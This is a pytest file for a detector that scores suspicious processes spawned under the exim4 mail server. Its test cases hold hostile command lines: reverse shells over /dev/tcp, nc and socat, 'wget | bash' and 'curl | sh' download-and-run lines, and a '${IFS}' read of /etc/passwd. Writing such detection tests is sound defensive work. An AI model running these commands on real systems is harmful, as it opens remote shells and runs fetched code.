"""The assessment: what executions below exim4 weigh, and why."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.assessment import LEVELS, MAX_SCORE, Assessment, level_of, markdown_table, weigh
from app.core.criteria import CODES, CRITERIA
from app.core.document import encode_document
from app.core.event import decode
from app.core.execution import MAX_ARGS, MAX_TEXT
from app.core.lineage import Relation
from app.core.programs import kind_of, program_of
from tests.events import event, raw
from tests.readme_part import README, written


def weighed(
    *args: str, path: str = "", depth: int | None = 1, earlier: tuple[str, ...] = (), **fields: Any
) -> Assessment:
    """Weigh an execution by its arguments; it lies in /usr/bin unless told otherwise."""
    path = path or f"/usr/bin/{args[0]}"
    fields = {"process__args": list(args), "process__executable": path, **fields}
    return weigh(decode(raw(event(name=path.rpartition("/")[2], **fields))), depth, Relation.CHILD, earlier)


LIVED: dict[str, Any] = {
    "process__previous": [{"args": ["exim4"], "executable": "/usr/sbin/exim4"}],
    "process__start": "2026-01-05T08:00:01.00Z",
}


def codes(*args: str, **options: Any) -> list[str]:
    """Give the reasons' codes."""
    return [reason.code for reason in weighed(*args, **options).reasons]


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("sh", "shell"),
        ("-bash", "shell"),
        ("/usr/bin/bash", "shell"),
        ("ksh93", "shell"),
        ("python3.11", "interpreter"),
        ("python3.11d", "interpreter"),
        ("perl5.36.0", "interpreter"),
        ("php-cgi8.2", "interpreter"),
        ("gawk-5.1.0", "interpreter"),
        ("lua5.4", "interpreter"),
        ("wget2", "downloader"),
        ("aria2c", "downloader"),
        ("nc.openbsd", "network_tool"),
        ("/tmp/socat1 (deleted)", "network_tool"),
        ("hping3", "network_tool"),
        ("exim4", None),
        ("procmail", None),
        ("Bash", None),
        ("shred", None),
        ("python3-config", None),
        ("x" * 100_000, None),
        ("", None),
    ],
)
def test_a_program_is_known_by_its_name_without_version(name: str, kind: str | None) -> None:
    """A version at the end, a directory and a login shell's dash do not matter; case does."""
    assert kind == kind_of(name)


@pytest.mark.parametrize(
    ("path", "args", "program"),
    [
        ("/bin/busybox", ["wget", "-q"], "wget"),
        ("/bin/busybox", ["/bin/busybox", "nc", "-l"], "nc"),
        ("/bin/busybox", ["busybox"], "busybox"),
        ("/bin/busybox", [], "busybox"),
        ("toybox", ["/bin/sh"], "sh"),
        ("/bin/cat", ["wget"], "cat"),
    ],
)
def test_busybox_is_the_applet_it_is_called_as(path: str, args: list[str], program: str) -> None:
    """One file with many names is told apart by its arguments; other programs are what they are."""
    assert program == program_of(path, args)


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["id"], []),
        (["procmail", "-d", "alice"], []),
        (["perl", "/usr/bin/rt-mailgate", "--queue", "general", "-e"], ["interpreter"]),
        (["sh", "/etc/init.d/exim4", "-c"], ["interpreter"]),
        (["sh", "-c", "id"], ["interpreter", "inline_code"]),
        (["bash", "-x", "-lc", "id"], ["interpreter", "inline_code"]),
        (["perl", "-MMIME::Base64", "report.pl"], ["interpreter"]),
        (["perl", "-ne", "print"], ["interpreter", "inline_code"]),
        (["python3", "-u"], ["interpreter"]),
        (["perl", "-eprint 1"], ["interpreter", "inline_code"]),
        (["python3.11", "-Ic", "print(1)"], ["interpreter", "inline_code"]),
        (["php8.2", "-r", "echo 1;"], ["interpreter", "inline_code"]),
        (["nodejs", "--eval", "1"], ["interpreter", "inline_code"]),
        (["mawk", "{print $1}"], ["interpreter", "inline_code"]),
        (["mawk", "-f", "report.awk"], ["interpreter"]),
        (["curl", "-fsS", "https://mx.example/"], ["downloader"]),
        (["openssl", "s_client", "-connect", "192.0.2.1:443"], ["network_tool"]),
        (["openssl", "dgst", "-sha256"], []),
        (["sh", "-c", "cd / && exec wget -q x; true"], ["interpreter", "downloader", "inline_code"]),
        (["sh", "-c", "echo curl"], ["interpreter", "inline_code"]),
        (["sh", "-c", "curl x | sh"], ["interpreter", "downloader", "inline_code", "pipe_to_interpreter"]),
        (["sh", "-c", "cat x|sudo /usr/bin/python3"], ["interpreter", "inline_code", "pipe_to_interpreter"]),
        (["sh", "-c", "ps | awk '{print $1}'"], ["interpreter", "inline_code"]),
        (["sh", "-c", "echo aWQ= | base64 -d"], ["interpreter", "inline_code", "encoded_payload"]),
        (["sh", "-c", "cat${IFS}/etc/passwd"], ["interpreter", "inline_code", "encoded_payload"]),
        (["sh", "-c", "exec 5<>/dev/tcp/192.0.2.1/9"], ["interpreter", "inline_code", "remote_shell"]),
        (["sh", "-c", "echo socket"], ["interpreter", "inline_code", "remote_shell"]),
        (["bash", "-i"], ["interpreter", "interactive"]),
        (["nc", "-e", "/bin/sh", "192.0.2.1", "9"], ["network_tool", "remote_shell"]),
        (["nc", "-lvp", "9"], ["network_tool"]),
        (["socat", "TCP:192.0.2.1:9", "exec:/bin/sh"], ["network_tool", "remote_shell"]),
        (["python3", "-c", "import socket"], ["interpreter", "inline_code", "remote_shell"]),
        (["busybox", "wget", "http://192.0.2.1/x"], ["downloader"]),
        (["sh", "/tmp/x.sh"], ["interpreter", "writable_argument"]),
        (["chmod", "+x", "/var/spool/exim4/x"], ["writable_argument"]),
        (["chmod", "+x", "/home/alice/bin/vacation", "/tmp"], []),
    ],
)
def test_programs_and_arguments_weigh(args: list[str], expected: list[str]) -> None:
    """Each line of the table about programs and arguments, where it holds and where it nearly does."""
    assert expected == codes(*args)


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/usr/bin/grep", []),
        ("/opt/tool/grep", []),
        ("/tmp/.x/grep", ["writable_path", "hidden_path"]),
        ("/opt/.../x", ["hidden_path"]),
        ("./x", []),
        ("/home/alice/bin/vacation", ["writable_path"]),
        ("/var/spool/exim4/input/x", ["writable_path"]),
        ("/usr/bin/../../opt/x", ["writable_path"]),
        ("/usr/bin/x..y", []),
        ("/tmpfile", []),
        ("/usr/bin/id (deleted)", ["deleted_executable"]),
        ("/dev/shm/x (deleted)", ["writable_path", "deleted_executable"]),
        ("/memfd:x", ["deleted_executable"]),
        ("memfd:x (deleted)", ["deleted_executable"]),
    ],
)
def test_places_weigh(path: str, expected: list[str]) -> None:
    """Where the executable lies, or does not lie any more."""
    assert expected == codes("x", path=path)


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"user__id": 0}, ["root"]),
        ({"user__id": "0"}, ["root"]),
        ({"process__user__name": "root"}, ["root"]),
        ({"user__id": 1000, "user__name": "rooter"}, []),
        ({"process__interactive": True}, ["interactive"]),
        ({"process__interactive": False}, []),
        ({"process__tty": {"char_device": {"major": 136, "minor": 1}}}, ["interactive"]),
        ({"process__tty": {"char_device": {"major": 0, "minor": 0}}}, []),
        ({"process__tty": {}}, []),
        ({"depth": 2}, []),
        ({"depth": 3}, ["deep"]),
        ({"depth": None}, []),
        ({"earlier": ("exim4", "sh")}, ["in_place"]),
        ({"earlier": ("sh",)}, []),
        (LIVED | {"time": "2026-01-05T08:00:02.5Z"}, ["in_place"]),
        (LIVED | {"time": "2026-01-05T08:00:01.01Z"}, []),
        (LIVED | {"time": "2026-01-05T08:00:02.5Z", "process__previous": [{"executable": "/bin/sh"}]}, []),
        (LIVED | {"time": "never"}, []),
    ],
)
def test_who_and_how_deep_weigh(fields: dict[str, Any], expected: list[str]) -> None:
    """User, terminal and depth."""
    assert expected == codes("id", **fields)


def test_without_a_relation_to_exim4_there_is_no_depth() -> None:
    """A depth that belongs to nothing does not count."""
    assert () == weigh(decode(raw(event("id"))), 9, Relation.NONE).reasons


def test_a_command_line_stands_in_for_arguments() -> None:
    """A sensor that writes no arguments loses only what they were between."""
    fields = {"process__args": [], "process__command_line": "sh -c id"}
    assert ["interpreter", "inline_code"] == [
        reason.code for reason in weigh(decode(raw(event("sh", **fields))), 1, Relation.CHILD).reasons
    ]


def test_a_masquerade_is_weighed_by_both_of_its_names() -> None:
    """A program that calls itself grep and lies in a file called nc is a network tool."""
    found = weigh(decode(raw(event("grep", process__args=["grep"], process__executable="/tmp/nc"))), 1, Relation.CHILD)

    assert ["network_tool", "writable_path"] == [reason.code for reason in found.reasons]


@pytest.mark.parametrize(
    ("args", "fields", "level"),
    [
        (["id"], {}, "low"),
        (["id"], {"user__id": 0}, "low"),
        (["procmail"], {}, "low"),
        (["perl", "/usr/bin/rt-mailgate"], {}, "low"),
        (["sh", "-c", "vacation alice"], {}, "medium"),
        (["grep", "x"], {"path": "/tmp/.x/grep"}, "high"),
        (["sh"], {"earlier": ("exim4",)}, "high"),
        (["exim-helper"], {"path": "/var/lib/.cache/exim-helper", "user__id": 0}, "medium"),
        (["useradd", "-m", "x"], {"user__id": 0}, "medium"),
        (["kworker"], {"path": "/dev/shm/kworker (deleted)"}, "high"),
        (["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"], {}, "high"),
        (["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"], {"user__id": 0}, "critical"),
        (["sh", "-c", "wget -O- http://192.0.2.1/x | bash"], {"user__id": 0}, "critical"),
    ],
)
def test_levels_of_what_attackers_and_mail_hosts_do(args: list[str], fields: dict[str, Any], level: str) -> None:
    """The points are set by these: what a mail host does every day stays below what attacks look like."""
    assert level == weighed(*args, **fields).level


def test_a_reason_says_what_it_was_found_in() -> None:
    """The shape of an alert's `detector.assessment`."""
    assert {
        "level": "critical",
        "score": 90,
        "reasons": [
            {"code": "interpreter", "points": 20, "detail": "sh is a shell"},
            {"code": "downloader", "points": 30, "detail": "its code calls curl, a downloader"},
            {"code": "inline_code", "points": 10, "detail": "it is told to run: /usr/bin/curl x|sh"},
            {"code": "pipe_to_interpreter", "points": 30, "detail": "an argument pipes something into sh"},
        ],
    } == weighed("sh", "-c", "/usr/bin/curl x|sh").document()


def test_levels_and_scores_are_bounded() -> None:
    """The worst of all has exactly the maximum."""
    worst = weighed(
        *("bash", "-i", "-c", "curl x|base64 -d|sh; crontab y; nc -e /tmp/x; >/dev/tcp/1/2"),
        path="/tmp/../.x/bash (deleted)",
        earlier=("exim4",),
        user__id=0,
        depth=3,
    )

    assert set(CODES) == {reason.code for reason in worst.reasons}
    assert (MAX_SCORE, "critical") == (worst.score, worst.level)
    assert [("low", 0), ("low", 24), ("medium", 25), ("high", 50), ("critical", 75), ("critical", 100)] == [
        (level_of(score), score) for score in (0, 24, 25, 50, 75, 100)
    ]


def test_the_table_is_complete() -> None:
    """Every code once, in the README's form too."""
    table = markdown_table()

    assert len(CODES) == len(set(CODES))
    assert all(f"| `{each.code}` | {each.points} | {each.meaning} |" in table.splitlines() for each in CRITERIA)
    assert all(f"`{level}` from {least}" in table for level, least in LEVELS)


def test_the_schema_lists_the_codes() -> None:
    """An alert can't have a reason that the schema does not know, nor the schema one that no alert has."""
    schema = json.loads((Path(__file__).parents[2] / "schemas" / "alert.schema.json").read_text(encoding="utf-8"))
    reason = schema["$defs"]["assessment"]["properties"]["reasons"]["items"]["properties"]

    assert list(CODES) == reason["code"]["enum"]


_HOSTILE = st.text(st.sampled_from("\x1b\x00|;&(`\n{}-ceish /.\\x\"'$ \t0"), max_size=60)


@given(st.lists(_HOSTILE, max_size=4), _HOSTILE, st.sampled_from(["sh", "perl", "gawk", "nc", "socat", "busybox", ""]))
def test_any_arguments_are_weighed(args: list[str], path: str, name: str) -> None:
    """Whatever an attacker writes, the result is a sum of the table's points, the same each time, and small."""
    seen = decode(raw(event(name, process__args=[name, *args], process__executable=path)))
    result = weigh(seen, 2, Relation.DESCENDANT)

    assert result == weigh(seen, 2, Relation.DESCENDANT)
    assert min(MAX_SCORE, sum(reason.points for reason in result.reasons)) == result.score
    assert len(encode_document(result.document())) < 12_288


@pytest.mark.parametrize("text", ["|", "\n", "-c ", "\\x41", "a|", "$", "../", "x" * 9 + " ", "base64 ", "\x1b"])
def test_the_worst_arguments_are_looked_at_in_part(text: str) -> None:
    """A megabyte of arguments is cut; the result stays small, and no expression runs away on what is left."""
    args = ["sh", "-c", text * (1_000_000 // len(text))]
    for more in ([], ["/tmp/" + "\x1b" * 200] * 1000):
        record = json.dumps({"process": {"name": "sh", "args": args + more, "executable": "/tmp/" + text * 1000}})
        result = weigh(decode(record.encode()), 1, Relation.CHILD)
        assert "inline_code" in {reason.code for reason in result.reasons}
        assert len(encode_document(result.document())) < 12_288
    assert (256, 32_768) == (MAX_ARGS, MAX_TEXT)


def test_readme_shows_the_table() -> None:
    """It is the one that scores."""
    readme = README.read_text(encoding="utf-8")
    begin, end = "<!-- assessment: begin -->", "<!-- assessment: end -->"

    assert readme == written(readme, begin, end, markdown_table())
